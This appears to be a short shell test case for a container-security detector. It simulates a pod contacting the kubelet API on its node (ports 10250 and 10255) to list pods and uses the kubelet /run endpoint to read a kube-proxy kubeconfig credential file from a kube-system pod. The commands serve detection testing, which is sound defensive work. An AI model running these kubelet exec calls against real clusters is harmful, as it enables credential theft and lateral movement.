# category: container-escape
# technique: T1609
# art: no
# expect: k8s-api-contact
# image: debian
# net: yes
# desc: a pod calls the kubelet's API on its node (port 10250, and the read-only 10255) to list the node's pods and run a command in another pod through /run, the kubelet-exec path around the API server (no kubelet listens on the test host: the connections are refused)
node=$(ip route | awk '/^default/ {print $3; exit}')
node=${node:-$C2}
echo "node: $node"
curl -sk -m 3 "https://$node:10250/pods" || echo "10250/pods: $?"
curl -sk -m 3 -X POST "https://$node:10250/run/kube-system/kube-proxy-x7k2p/kube-proxy" -d 'cmd=cat /var/lib/kube-proxy/kubeconfig.conf' || echo "10250/run: $?"
curl -s -m 3 "http://$node:10255/pods" || echo "10255/pods: $?"
